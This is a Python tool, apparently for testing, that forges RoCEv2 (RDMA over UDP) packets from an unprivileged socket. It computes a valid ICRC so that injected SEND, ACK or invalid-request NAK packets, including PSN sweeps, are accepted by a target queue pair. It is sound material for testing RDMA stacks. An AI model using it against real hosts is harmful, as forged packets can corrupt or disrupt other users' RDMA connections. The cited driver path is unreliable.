#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
"""roce_inject - send forged RoCEv2 packets from a plain UDP socket.

Builds BTH (+ AETH for ACK/NAK) + payload + ICRC and sends it with an
ordinary, unprivileged UDP socket to port 4791, as any local or remote
user could. The ICRC (IBTA Vol 1 Annex A17.3.3) covers the IP and UDP
headers the kernel will write, with the variant fields masked as
drivers/infiniband/sw/softrc/core/icrc.c does:

  IPv4: TOS, TTL and header checksum masked; the ID is not, so the socket
        uses IP_PMTUDISC_DO: an unconnected DF datagram gets ID 0.
  IPv6: traffic class, flow label and hop limit masked.
  UDP:  checksum masked.  BTH: resv8a masked.

Usage:
  roce_inject.py --dst IP [--src IP] [--sport N] --dqpn QPN [--psn PSN]
                 [--count N] [--pkey 0xffff] [--op send|ack|nak-inv]
                 [--len BYTES] [--fill 0xee]

--count N sends N packets with consecutive PSNs from --psn (a sweep).
Prints one line: "sent N".
"""
import argparse
import ipaddress
import socket
import struct
import sys
import zlib

ROCE_PORT = 4791
OPCODES = {
    "send": 0x04,		# RC SEND_ONLY
    "ack": 0x11,		# RC ACKNOWLEDGE
    "nak-inv": 0x11,		# ACKNOWLEDGE with an invalid-request NAK
}
AETH_SYNDROME = {"ack": 0x1f, "nak-inv": 0x61}
IP_MTU_DISCOVER = 10	# <linux/in.h>; not in every Python's socket module
IP_PMTUDISC_DO = 2


def bth(opcode, pad, pkey, dqpn, psn, ackreq):
    return struct.pack("!BBHII", opcode, (pad & 3) << 4, pkey,
                       dqpn & 0xffffff, (0x80000000 if ackreq else 0) | (psn & 0xffffff))


def icrc(l3, udp, roce, ipv6):
    """ICRC over masked l3 + udp + roce (BTH first), without the trailer."""
    if ipv6:
        h = bytearray(l3)
        h[0] |= 0x0f
        h[1:4] = b"\xff\xff\xff"
        h[7] = 0xff
    else:
        h = bytearray(l3)
        h[1] = 0xff
        h[8] = 0xff
        h[10:12] = b"\xff\xff"
    u = bytearray(udp)
    u[6:8] = b"\xff\xff"
    r = bytearray(roce)
    r[4] = 0xff
    # zlib.crc32 is the reflected CRC-32 with ~0 start and final inversion
    return zlib.crc32(b"\xff" * 8 + bytes(h) + bytes(u) + bytes(r)) & 0xffffffff


def packet(a, psn, src, dst, sport, ipv6):
    op = OPCODES[a.op]
    body = b""
    if a.op in AETH_SYNDROME:
        body = struct.pack("!I", AETH_SYNDROME[a.op] << 24 | (a.msn & 0xffffff))
    else:
        body = bytes([a.fill]) * a.len
    pad = (-len(body)) & 3
    roce = bth(op, pad, a.pkey, a.dqpn, psn, a.ackreq) + body + b"\0" * pad
    ulen = 8 + len(roce) + 4
    udp = struct.pack("!HHHH", sport, ROCE_PORT, ulen, 0)
    if ipv6:
        l3 = struct.pack("!IHBB", 6 << 28, ulen, 17, 64) + src.packed + dst.packed
    else:
        l3 = struct.pack("!BBHHHBBH", 0x45, 0, 20 + ulen, 0, 0x4000, 64, 17, 0) + \
            src.packed + dst.packed
    return roce + struct.pack("<I", icrc(l3, udp, roce, ipv6))


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    p.add_argument("--dst", required=True)
    p.add_argument("--src", help="local address to send from (default: routing's)")
    p.add_argument("--sport", type=int, default=0)
    p.add_argument("--dqpn", type=lambda x: int(x, 0), required=True)
    p.add_argument("--psn", type=lambda x: int(x, 0), default=0)
    p.add_argument("--count", type=int, default=1)
    p.add_argument("--pkey", type=lambda x: int(x, 0), default=0xffff)
    p.add_argument("--op", choices=sorted(OPCODES), default="send")
    p.add_argument("--msn", type=lambda x: int(x, 0), default=0)
    p.add_argument("--len", type=int, default=64)
    p.add_argument("--fill", type=lambda x: int(x, 0), default=0xee)
    p.add_argument("--ackreq", action="store_true")
    a = p.parse_args()

    dst = ipaddress.ip_address(a.dst)
    ipv6 = dst.version == 6
    fam = socket.AF_INET6 if ipv6 else socket.AF_INET
    s = socket.socket(fam, socket.SOCK_DGRAM)
    if not ipv6:
        s.setsockopt(socket.IPPROTO_IP, IP_MTU_DISCOVER, IP_PMTUDISC_DO)
    s.bind((a.src or ("::" if ipv6 else "0.0.0.0"), a.sport))
    if a.src:
        src = ipaddress.ip_address(a.src)
    else:
        # the address routing picks: what connect() would bind
        t = socket.socket(fam, socket.SOCK_DGRAM)
        t.connect((a.dst, ROCE_PORT))
        src = ipaddress.ip_address(t.getsockname()[0])
        t.close()
    sport = s.getsockname()[1]
    n = 0
    for i in range(a.count):
        s.sendto(packet(a, (a.psn + i) & 0xffffff, src, dst, sport, ipv6),
                 (a.dst, ROCE_PORT))
        n += 1
    print("sent %d" % n)
    return 0


if __name__ == "__main__":
    sys.exit(main())
